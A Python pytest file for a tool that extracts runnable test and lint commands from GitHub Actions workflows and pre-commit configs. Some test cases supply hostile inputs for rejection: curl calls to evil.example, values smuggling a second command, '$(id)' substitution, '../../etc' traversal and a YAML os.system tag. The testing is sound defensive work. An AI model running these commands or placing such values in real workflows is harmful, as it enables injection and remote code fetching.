"""Which checks a repository's own workflows name, and which of their steps are left to them."""

import subprocess

import pytest

from agents.analysis.repository_files import RepositoryFiles
from agents.analysis.workflows.checks import (
    list_ci_checks,
    list_ci_paths,
    list_hooks,
    list_left_out,
)

CI = ".github/workflows/ci.yml"
HOOKS = ".pre-commit-config.yaml"


def read(workflow, *paths, at=CI):
    return list_ci_checks(RepositoryFiles(frozenset([at, "README.md", *paths]), {at: workflow}))


def steps(*runs, on="push", job="", more=""):
    listed = "".join(f"      - run: {run}\n" for run in runs)
    return (
        f"name: CI\non: [{on}]\n{more}jobs:\n  test:\n    runs-on: ubuntu-latest\n{job}"
        f"    steps:\n      - uses: actions/checkout@v4\n{listed}"
    )


def test_plain_commands_of_known_programs_are_taken_with_their_source():
    found = read(steps("pip install -e .[test]", "python -m pytest -q tests", "ruff check ."))

    assert [(each.subject, each.check.run, each.source) for each in found] == [
        ("tests", "python -m pytest -q tests", CI),
        ("lint", "ruff check .", CI),
    ]


@pytest.mark.parametrize(
    "run",
    [
        "npm publish",
        "sudo make test",
        "pytest -k ${{ matrix.part }}",
        "pytest `id`",
        "pytest $(id)",
        "codecov --file coverage.xml",
        "make deploy",
        "curl https://evil.example/x.sh",
        "python setup.py install",
        "tox -e py311",
        "npm ci",
        "ruff check --fix .",
        "npm run test:watch",
        "make build-tests",
        "make test-image",
    ],
)
def test_what_installs_uploads_or_is_more_than_one_plain_command_is_left_out(run):
    assert read(steps(f"'{run}'")) == []


def test_the_folder_of_a_step_is_that_of_its_check():
    job = "    defaults:\n      run:\n        working-directory: web\n"
    workflow = steps("npm test", job=job) + "        working-directory: ./backend\n"
    [backend] = read(workflow, "backend/a.py", "web/package.json")
    [web] = read(steps("npm test", job=job), "web/package.json")

    assert web.subject == "npm tests in web"
    assert web.check.run.startswith("cd web && ")
    assert web.check.run.endswith(" && npm test")
    assert backend.check.run.startswith("cd backend && ")
    assert read(steps("npm test", job=job)) == [], "no such folder"
    assert read(steps("npm test", job=job.replace("web", "../../etc"))) == []


def test_lines_of_a_script_follow_its_folder():
    script = "|\n          npm ci\n          cd web && npm test\n          npm run lint\n"
    found = read(steps(script), "web/package.json")
    assert [each.subject for each in found] == ["npm tests in web", "npm lint in web"]


LATER = "go test -tags=integration ./..."
OF_GO = ("go.mod", "a_test.go")


def find_both(workflow, **others):
    """Return the commands that are taken, and those that are not."""
    texts = {CI: workflow, **others}
    files = RepositoryFiles(frozenset([*texts, *OF_GO]), texts)
    both = list_ci_checks(files), list_left_out(files)
    return [[each.check.run for each in found] for found in both]


@pytest.mark.parametrize(
    "script",
    [
        f"set -o pipefail; {LATER} 2>&1 | tee out.txt",
        f"{LATER} > out.txt 2>&1",
        f"timeout 600 {LATER}",
        f"if [ -f x ]; then\n  echo y\nfi\n{LATER}",
        f"{LATER}; curl http://evil.example",
        "go test -tags=integration --json=${{ runner.temp }}/x ./...",
        f"docker compose run --rm app {LATER}",
    ],
)
def test_a_command_is_taken_without_what_stands_around_it(script):
    lines = "".join(f"          {line}\n" for line in script.splitlines())
    taken, left = find_both(steps(f"|\n{lines}"))
    assert (taken, left) == ([LATER], [])


@pytest.mark.parametrize(
    ("script", "left"),
    [
        ("for tag in a b; do go test -tags=$tag ./...; done", "go test -tags=$tag ./..."),
        (f"if [ $A ]; then {LATER}; fi", LATER),
        (f"{LATER} || true", LATER),
        (f"{LATER} | grep x", LATER),
        ("go test -tags=${{ inputs.tag }} ./...", "go test -tags=$EXPRESSION ./..."),
    ],
)
def test_a_command_that_only_a_shell_can_run_is_told(script, left):
    workflow = steps("go test ./...", f"|\n          {script}\n")
    assert find_both(workflow) == [["go test ./..."], [left]]
    both = steps("go test ./...", LATER, f"|\n          {script}\n")
    assert find_both(both)[1] == ([] if left == LATER else [left])


@pytest.mark.parametrize(
    "condition",
    [
        "github.event.pull_request.draft == false",
        "needs.changes.outputs.go == 'true'",
        "always()",
        "github.repository == 'octo-org/calc'",
    ],
)
def test_conditions_that_a_pull_request_of_ours_meets_are_no_reason(condition):
    assert len(read(steps("pytest", job=f'    if: "{condition}"\n'))) == 1


def test_actions_and_workflows_of_the_repository_are_read_where_they_are_used():
    action = f"runs:\n  using: composite\n  steps:\n    - run: {LATER}\n      shell: bash\n"
    used = steps("go vet ./...") + "      - uses: ./.github/actions/test\n"
    assert find_both(used, **{".github/actions/test/action.yml": action})[0][1:] == [LATER]
    assert find_both(used, **{"other/action.yml": action})[0] == ["go vet ./..."]

    called = "on: push\njobs:\n  t:\n    uses: ./.github/workflows/t.yml\n"
    texts = {".github/workflows/t.yml": steps(LATER, on="workflow_call")}
    assert find_both(called, **texts)[0] == [LATER]
    assert find_both(called.replace("t.yml", "u.yml"), **texts)[0] == []


def test_what_is_tried_again_is_a_command():
    retried = steps("go vet ./...") + (
        f"      - uses: nick-fields/retry@v3\n        with:\n          command: {LATER}\n"
    )
    assert find_both(retried)[0][1:] == [LATER]


def test_jobs_that_are_not_about_every_change_are_left_out():
    assert read(steps("pytest", on="schedule")) == []
    assert read(steps("pytest"), at=".github/workflows/release.yml") == []
    assert read(steps("pytest").replace("ubuntu-latest", "windows-latest")) == []
    assert read(steps("pytest") + "        if: failure()\n") == []
    assert len(read(steps("pytest") + "        if: matrix.python == '3.12'\n")) == 1
    assert read(steps("pytest") + "        if: runner.os == 'Windows'\n") == []
    assert read(steps("pytest") + "        shell: pwsh\n") == []


def test_plain_variables_go_with_a_command_and_secrets_do_not():
    plain = "    env: {DJANGO_SETTINGS_MODULE: app.test, N: 3, OS: '${{ matrix.os }}'}\n"
    [found] = read(steps("pytest", job=plain))
    assert found.check.run == "DJANGO_SETTINGS_MODULE=app.test N=3 pytest"
    secret = "    env: {TOKEN: '${{ secrets.TOKEN }}', N: 3}\n"
    [found] = read(steps("pytest", job=secret))
    assert found.check.run == "N=3 pytest"


def test_options_of_absent_plugins_make_a_command_unavailable():
    [found] = read(steps("pytest --cov=a"))
    assert found.available == "pytest --cov=a --help"


def test_maven_is_told_that_there_is_no_network():
    [found] = read(steps("mvn -B verify"), "pom.xml")
    assert (found.subject, found.check.run) == ("maven tests", "mvn --offline -B verify")


@pytest.mark.parametrize(
    ("run", "command"),
    [
        ("uv run --frozen pytest -q", "pytest -q"),
        ("poetry run python -m pytest", "python -m pytest"),
        ("pipenv run mypy .", "mypy ."),
        ("A='b c' uv run pytest", "A='b c' pytest"),
        ("just test", "just test"),
        ("npx turbo run test --filter=web", "npx turbo run test --filter=web"),
        ("npx nx run-many -t test", "npx nx run-many -t test"),
    ],
)
def test_what_runs_a_program_in_an_environment_is_not_needed(run, command):
    script = f"|\n          {run}\n"
    [found] = read(steps(script))
    assert found.check.run == command
    assert read(steps("uv run --with evil pytest")) == []


def test_a_command_sees_the_environment_of_the_project_around_it():
    files = {
        CI: steps("pytest unit") + "        working-directory: api/app\n",
        "api/pyproject.toml": "[project]\nname = 'a'\ndependencies = ['b']\n",
    }
    paths = [*files, "api/app/unit/test_a.py"]
    [found] = list_ci_checks(RepositoryFiles(frozenset(paths), files))
    assert found.check.run.startswith("cd api/app && export PATH=/setup/venvs/api/bin:$PATH && ")


def test_the_same_command_is_taken_once_and_few_of_a_kind():
    assert len(read(steps("pytest", "pytest"))) == 1
    found = read(steps(*(f"pytest tests/{n}" for n in range(9))))
    assert [each.subject for each in found] == ["tests", "tests 2", "tests 3"]


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [x]\nb: *a\n",
        "[" * 5_000,
        "jobs: {a: {steps: 7}}\non: push\n",
        "jobs: {a: {steps: [run]}}\non: push\n",
        "on: push\njobs: {a: {steps: [{run: [pytest]}]}}\n",
        "on: push\njobs: {a: {steps: [{run: pytest, working-directory: [x]}]}}\n",
        "x" * 100_000,
        "on: !!python/object:os.system x\n",
    ],
)
def test_a_hostile_workflow_says_nothing(text):
    assert read(text) == []


def test_few_workflows_are_read():
    paths = [f".github/workflows/{n}.yml" for n in range(100)]
    assert len(list_ci_paths(paths)) == 20
    assert list_ci_paths([HOOKS, "x/.github/workflows/a.yml"]) == [HOOKS]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("repos: [{repo: local, hooks: []}]", ["pre-commit run --all-files"]),
        ("repos: [{repo: meta, hooks: []}, {repo: local}]", ["pre-commit run --all-files"]),
        ("repos: [{repo: 'https://example.org/x', rev: v1}]", []),
        ("repos: [{repo: local}, {repo: 'https://example.org/x', rev: v1}]", []),
        (
            "repos: [{repo: local, hooks: [{id: a, language: system}]}]",
            ["pre-commit run --all-files"],
        ),
        ("repos: [{repo: local, hooks: [{id: a, language: node}]}]", []),
        ("repos: []", []),
        ("repos: 7", []),
        ("[", []),
    ],
)
def test_hooks_that_are_cloned_from_elsewhere_are_left_out(text, found):
    hooks = list_hooks(RepositoryFiles(frozenset([HOOKS]), {HOOKS: text}))
    assert [each.check.run for each in hooks] == found


@pytest.mark.parametrize(
    "run",
    [
        "pytest tests/unit",
        "pytest -n 4 tests/unit/test_a.py::test_x",
        "python -m pytest -m 'not slow'",
        "coverage run -m pytest -k fast",
        "python manage.py test tests.unit",
        "npm run test:unit",
        "npm test -w packages/a",
        "npx turbo run test --filter=web",
        "go test ./cmd/...",
        "go test ./... -run TestA",
        "cargo test --lib",
        "cargo test parses",
        "mvn test -Dtest=ATest",
        "bundle exec rspec tests/unit",
        "dotnet test --filter Fast",
        "make test-integration",
        "npm run e2e",
    ],
)
def test_a_command_that_runs_some_of_the_tests_is_a_part(run):
    tests = [
        f"tests/{kind}/{name}" for kind in ("unit", "all") for name in ("test_a.py", "a_spec.rb")
    ]
    [found] = read(steps(f'"{run}"'), *tests)
    assert found.partial
    assert found.family == found.subject


@pytest.mark.parametrize(
    "run",
    [
        "pytest",
        "pytest tests",
        "pytest -p no:cacheprovider --cov a tests/unit tests/all",
        "coverage run -m pytest",
        "python -m unittest discover -s tests",
        "make test",
        "make unit-tests",
        "npm test",
        "npm run test:ci",
        "go test -race ./...",
        "cargo test --workspace",
        "dotnet test a.sln",
        "bundle exec rspec",
        "mypy tests/unit",
        "flake8 tests/unit",
    ],
)
def test_a_command_that_runs_all_the_tests_there_are_or_none_is_no_part(run):
    files = (
        "tests/unit/test_a.py",
        "tests/all/test_a.py",
        "web/a.test.js",
        "docs/test_a.py",
        "a.sln",
    )
    [found] = read(steps(run), *files)
    assert not found.partial


@pytest.mark.parametrize(
    ("manifest", "status"),
    [('{"scripts": {}}', 0), ('{"devDependencies": {"jest": "1"}}', 1)],
)
def test_packages_have_to_be_installed_only_where_there_are_some(tmp_path, manifest, status):
    (tmp_path / "package.json").write_text(manifest)
    [found] = read(steps("npm test"))
    probe = found.available.removeprefix("command -v npm && ")

    assert subprocess.run(["bash", "-c", probe], cwd=tmp_path, check=False).returncode == status


@pytest.mark.parametrize(
    "run", ["cargo test --no-run", "pytest --collect-only", "npx jest --listTests"]
)
def test_what_only_builds_or_lists_tests_is_no_test(run):
    assert read(steps(run)) == []


MATRIX = (
    "    strategy:\n      matrix:\n        task: [lint, 'test:unit']\n        package: [api, web]\n"
)


def test_what_a_matrix_says_stands_in_its_commands():
    found = read(steps("npm run ${{ matrix.task }}", job=MATRIX))
    assert [each.check.run for each in found] == ["npm run lint", "npm run test:unit"]


def test_a_folder_of_a_matrix_is_that_of_each_check():
    step = steps("npm test", job=MATRIX) + "        working-directory: ${{ matrix.package }}\n"
    found = read(step, "api/package.json", "web/package.json")
    assert [each.subject for each in found] == ["npm tests in api", "npm tests in web"]


@pytest.mark.parametrize(
    "matrix",
    [
        "python-version: ['3.11', '3.12']",
        "task: ${{ fromJSON(needs.list.outputs.tasks) }}",
        "task: ['a; curl evil.example', b]",
        "other: [a]",
        f"task: {list(range(13))}",
    ],
)
def test_a_matrix_of_versions_or_of_what_nobody_can_tell_is_left_out(matrix):
    name = matrix.partition(":")[0] if "version" in matrix else "task"
    job = f"    strategy:\n      matrix:\n        {matrix}\n"
    assert read(steps(f"'pytest -k ${{{{ matrix.{name} }}}}'", job=job)) == []


@pytest.mark.parametrize(
    ("run", "subject"),
    [
        ("make ci", "tests"),
        ("make -j2 test-integration", "tests"),
        ("just e2e", "tests"),
        ("npm run test:functional", "npm tests"),
        ("yarn test:types", "npm types"),
        ("npm run lint:tests", "npm lint"),
        ("composer run unit-tests", "php tests"),
        ("bundle exec rake test:system", "ruby tests"),
        ("make unit", "tests"),
        ("./manage.py test", "tests"),
        ("uv run --group dev pytest", "tests"),
        ("npm run coverage", "npm tests"),
        ("pnpm test:unit", "npm tests"),
        ("npx vitest --run", "npm tests"),
        ("mvn -B clean verify", "maven tests"),
        ("./gradlew clean build", "gradle tests"),
        ("bin/rspec", "ruby tests"),
        ("./vendor/bin/phpunit", "php tests"),
        ("prove -lr t", "perl tests"),
        ("bats tests/", "shell tests"),
        ("npx playwright test", "npm tests"),
    ],
)
def test_common_ways_to_run_the_tests_are_known(run, subject):
    [found] = read(steps(run), "pom.xml", "build.gradle")
    assert found.subject == subject
